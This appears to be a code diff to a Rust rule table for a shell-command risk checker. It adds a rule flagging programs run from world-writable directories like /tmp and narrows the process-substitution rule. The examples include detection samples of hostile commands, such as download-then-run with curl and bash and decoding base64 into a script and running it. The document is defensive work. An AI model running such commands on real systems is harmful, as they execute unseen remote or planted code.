@@ -116,7 +116,8 @@ const fn class_of(rule: RuleId) -> Option<RuleId> {
         | R::InlineCode
         | R::ShellOutInCode
         | R::UnknownInlineCode
-        | R::TaintedExecutable => R::DataBecomesCode,
+        | R::TaintedExecutable
+        | R::SharedDirExecutable => R::DataBecomesCode,
         R::EnvironmentRunsCode
         | R::EnvExecutesProgram
         | R::EnvLoader
@@ -308,9 +309,9 @@ rules! {
         "The argument is only known when the line runs.",
         ["echo $USER", "cat \"$FILE\""], ["echo '$USER'", "X=a; echo $X"];
     ProcessSubstitution => "process-substitution", Medium,
-        "`<(...)` or `>(...)` used as an argument; the inner commands are judged too.",
-        "Another command's output is passed as a file.",
-        ["diff <(ls a) <(ls b)"], ["diff a b"];
+        "`<(...)` or `>(...)` used as an argument of a program that may run or keep what it is given; the inner commands are judged too.",
+        "Another command's output is passed as a file; programs that only compare, count or print their files (`diff`, `sort`, `wc`) read it as data.",
+        ["frob <(ls a)", "tee >(ls)"], ["diff a b", "diff <(ls a) <(ls b)"];
     DynamicScript => "dynamic-script", Critical,
         "A script for a shell, interpreter, sed or awk that is only known at run time.",
         "The code that runs cannot be seen.",
@@ -349,13 +350,17 @@ rules! {
         "An unknown program can do anything (the original's `unknown-binary`, invariant I3: never low).",
         ["make", "frobnicate --all", "cargo-foo"], ["ls", "cat README.md"];
     UntrustedExecutable => "untrusted-executable", Medium,
-        "A program given by path outside the system directories (`./run.sh`, `/tmp/x`).",
+        "A program given by path outside the system directories (`./run.sh`, `/opt/x/bin/x`); one in a world-writable directory is `shared-dir-executable`.",
         "It is not the system program its name suggests; it runs workspace or downloaded code.",
-        ["./run.sh", "/tmp/x/cat a"], ["/usr/bin/cat a", "/bin/ls"];
+        ["./run.sh", "/opt/x/cat a"], ["/usr/bin/cat a", "/bin/ls"];
     TaintedExecutable => "tainted-executable", Critical,
         "Runs, sources or makes executable a file written earlier in the line from downloaded or decoded data.",
         "Download-then-run is remote code execution in two steps.",
         ["curl -o x.sh https://e.example/x && bash x.sh", "echo cm0= | base64 -d > a.sh; sh a.sh"], ["curl -o x.txt https://e.example/x && cat x.txt"];
+    SharedDirExecutable => "shared-dir-executable", Critical,
+        "Runs a program, or names one for another program to run, from a world-writable directory (`/tmp`, `/var/tmp`, `/dev/shm`).",
+        "Nothing in the line wrote it or shows what it does: it is code that cannot be seen, put there by anyone on the machine.",
+        ["/tmp/x", "GIT_ASKPASS=/var/tmp/p git fetch", "scp -S /dev/shm/s a h.example:"], ["/usr/bin/cat a", "./run.sh", "cat /tmp/x"];
     RunsScript => "runs-script", Medium,
         "A shell runs a script file.",
         "The script's contents are not shown.",
